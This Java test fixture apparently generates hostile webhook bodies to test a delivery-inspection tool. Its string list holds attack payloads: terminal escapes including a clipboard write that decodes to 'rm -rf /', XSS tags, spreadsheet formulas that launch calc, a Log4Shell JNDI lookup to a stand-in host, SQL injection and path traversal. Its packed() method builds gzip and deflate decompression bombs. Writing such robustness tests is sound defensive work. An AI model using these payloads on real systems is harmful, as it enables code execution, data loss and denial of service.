package io.hookscope.hostile;

import io.hookscope.testing.Deliveries;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/** Attacks on whoever reads, checks, lists, prints or shows a body that arrived well. Without state. */
final class Bodies {

    /** In mebibytes. */
    private static final int GIBIBYTE = 1024;

    private static final String JSON = "Content-Type: application/json\r\n";

    /** Texts that mean something to a terminal, a browser, a table or a reader of text. */
    static final List<String> TEXTS = List.of("\u001b[2J\u001b[1;1H\u001b]0;owned\u0007",
            "\u001b]52;c;cm0gLXJmIC8=\u0007", "\u009b31m",
            "line\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b", "\b\b\b\bok", "\u202egnp.exe", "\u2066\u202eabc\u2069",
            "a\u200b\u200d\u2060\ufeffb",
            "\u0301".repeat(200) + "zalgo", "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "<style>*{display:none}</style>", "-fx-background-color: red; -fx-opacity: 0",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "${jndi:ldap://evil/a}", "%s%n%x{0}{}",
            "'; DROP TABLE delivery; --",
            "../../etc/passwd", "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66".repeat(50),
            "\udead\ubeef",
            "\ud800", "\uffff\ufffe", "\u0000", "x".repeat(200_000), "_mnemonic", "\u2028\u2029\u0085", "NaN", "null");

    private Bodies() {}

    static List<Attack> all() {
        var all = new ArrayList<Attack>();
        for (JsonCases.Case json : JsonCases.all()) {
            all.add(Attack.body(json.must() + " " + json.name(), JSON, json.bytes()));
        }
        for (String text : TEXTS) {
            all.add(Attack.body("as every text of an event: " + text.substring(0, Math.min(20, text.length())), JSON,
                    poisoned(text)));
            all.add(Attack.body("as the whole body", "Content-Type: text/plain\r\n",
                    text.getBytes(StandardCharsets.UTF_8)));
        }
        for (String number : List.of("1e2147483647", "-1e999", "0." + "0".repeat(5000) + "1", "9".repeat(9000), "NaN",
                "1e-2147483647",
                "\"\"", "{}", "[]", "null", "true")) {
            all.add(Attack.body("as every amount of an event: " + number.substring(0, Math.min(20, number.length())),
                    JSON,
                    Deliveries.goldenEnvelope().replaceAll("(amount\"|price\"|quantity\"): ?-?\\d+", "$1:" + number)
                            .getBytes(StandardCharsets.UTF_8)));
        }
        all.addAll(packed());
        return all;
    }

    /** The golden event with that text in each place where a person will read it. */
    static byte[] poisoned(String text) {
        var escaped = new StringBuilder();
        text.chars().forEach(c -> escaped.append("\\u%04x".formatted(c)));
        String json = escaped.toString();
        return Deliveries.goldenEnvelope().replace("Jane Doe", json).replace("Always-add-prods-5", json)
                .replace("Always add missing products", json).replaceAll("\"product_name\": ?\"[^\"]*\"",
                        "\"product_name\": \"" + json.replace("\\", "\\\\") + "\"")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** Bodies that grow when they are unpacked, or pretend to. */
    static List<Attack> packed() {
        byte[] bomb = bomb();
        return List.of(Attack.body("a gzip bomb: 1 GiB in 1 MB", JSON + "Content-Encoding: gzip\r\n", bomb),
                Attack.body("a deflate bomb: 1 GiB in 1 MB", JSON + "Content-Encoding: deflate\r\n",
                        Bomb.deflate(GIBIBYTE)),
                Attack.body("a bomb in a bomb", JSON + "Content-Encoding: gzip, gzip\r\n", twice(bomb)),
                Attack.body("50 MiB of brackets, packed", JSON + "Content-Encoding: gzip\r\n", brackets(50)),
                Attack.body("nine encodings", JSON + "Content-Encoding: " + "gzip, ".repeat(8) + "gzip\r\n", bomb),
                Attack.body("gzip in name only", JSON + "Content-Encoding: gzip\r\n",
                        "{}".getBytes(StandardCharsets.UTF_8)),
                Attack.body("gzip that is cut", JSON + "Content-Encoding: gzip\r\n",
                        Arrays.copyOf(bomb, 5000)),
                Attack.body("a content encoding nobody knows", JSON + "Content-Encoding: \u009b31mbr\r\n", bomb));
    }

    private static byte[] twice(byte[] bomb) {
        return pack(out -> out.write(bomb));
    }

    /** A gibibyte of spaces in a megabyte. */
    static byte[] bomb() {
        return Bomb.gzip(GIBIBYTE);
    }

    /** That many mebibytes of brackets, packed. */
    static byte[] brackets(int mebibytes) {
        return pack(out -> {
            byte[] some = "[0],".repeat(1 << 18).getBytes(StandardCharsets.US_ASCII);
            out.write('[');
            for (int i = 0; i < mebibytes; i++) {
                out.write(some);
            }
            out.write("0]".getBytes(StandardCharsets.US_ASCII));
        });
    }

    private interface Writing {
        void write(OutputStream out) throws IOException;
    }

    private static byte[] pack(Writing writing) {
        var bytes = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(bytes, 1 << 16)) {
            writing.write(out);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }
}
